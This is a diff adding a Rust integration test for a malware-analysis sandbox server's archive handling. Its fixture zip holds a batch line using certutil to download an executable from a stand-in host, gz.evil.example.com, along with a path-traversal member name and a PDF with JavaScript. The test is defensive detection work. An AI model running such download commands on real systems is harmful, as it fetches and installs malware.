@@ -1,4 +1,4 @@
-//! Documents through the whole server: a macro document's VBA, template injection and
+//! Documents and archives through the whole server: a macro document's VBA, template injection and
 //! indicators reach the report (`static.office`, `iocs`) and CAPE's `tasks/get/iocs`.
 
 use crate::harness::Server;
@@ -61,4 +61,79 @@ fn pdf_report_has_pdfid_counts() {
     let r = s.get(&format!("/apiv2/tasks/get/iocs/{id}/")).json();
     assert_eq!(r["data"]["static"]["pdf"]["header"], "%PDF-1.7");
     assert_eq!(r["data"]["static"]["pdf"]["pages"], 1);
+}
+
+/// tasks/create/submit on an AES-encrypted zip (password from the options) holding a
+/// script, a PDF and a nested gzip: one `archive` task per runnable member, each with the
+/// member as its target and its own static report; names that climb are neutralised.
+#[test]
+fn archive_members_become_tasks_with_their_own_reports() {
+    use crate::harness::Part;
+    use std::io::Write;
+    let s = Server::start("[analysis]\nworkers = 1\n");
+    let pdf = docbuild::pdf_with_js("app.alert(1)", "http://member.example.org/a");
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(b"@echo off\r\ncertutil -urlcache -f http://gz.evil.example.com/a.exe a.exe\r\n")
+        .unwrap();
+    let gz = gz.finish().unwrap();
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let o = zip::write::SimpleFileOptions::default()
+        .with_aes_encryption(zip::AesMode::Aes256, "s3cret");
+    for (name, data) in [
+        ("../../docs/report.pdf", &pdf[..]),
+        ("run.bat.gz", &gz[..]),
+        ("readme.txt", &b"not runnable"[..]),
+    ] {
+        w.start_file(name, o).unwrap();
+        w.write_all(data).unwrap();
+    }
+    let zip = w.finish().unwrap().into_inner();
+    let r = s.post_multipart(
+        "/tasks/create/submit",
+        &[
+            Part::File("files", "bundle.zip", &zip),
+            Part::Field("options", "password=s3cret"),
+        ],
+    );
+    let j = r.json();
+    let ids: Vec<i64> = j["task_ids"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v.as_i64().unwrap())
+        .collect();
+    assert_eq!(ids.len(), 2, "{j}");
+    let mut seen = Vec::new();
+    for id in ids {
+        let t = s.get(&format!("/tasks/view/{id}")).json()["task"].clone();
+        assert_eq!(t["category"], "archive");
+        assert_eq!(t["submit_id"], j["submit_id"]);
+        s.wait_status(id, "reported");
+        let rep = s.get(&format!("/tasks/report/{id}")).json();
+        let target = &rep["target"];
+        assert_eq!(target["category"], "archive");
+        assert_eq!(target["archive"]["name"], "bundle.zip");
+        let member = target["filename"].as_str().unwrap().to_owned();
+        assert!(!member.contains(".."), "{member}");
+        assert_eq!(target["human"], format!("{member} @ bundle.zip"));
+        if member == "docs/report.pdf" {
+            assert_eq!(target["file"]["name"], "report.pdf");
+            assert_eq!(rep["static"]["pdf"]["Keywords"]["/OpenAction"], 1);
+            assert_eq!(target["file"]["size"], pdf.len());
+        } else {
+            assert_eq!(member, "run.bat.gz/run.bat");
+            assert_eq!(rep["static"]["script"]["language"], "batch");
+            assert!(
+                rep["iocs"]["domains"]
+                    .to_string()
+                    .contains("gz.evil.example.com")
+            );
+        }
+        // The archive listing rides along.
+        let listed = rep["static"]["archive"]["members"].to_string();
+        assert!(listed.contains("s3cret") && listed.contains("docs/report.pdf"));
+        seen.push(member);
+    }
+    seen.sort();
+    assert_eq!(seen, ["docs/report.pdf", "run.bat.gz/run.bat"]);
 }
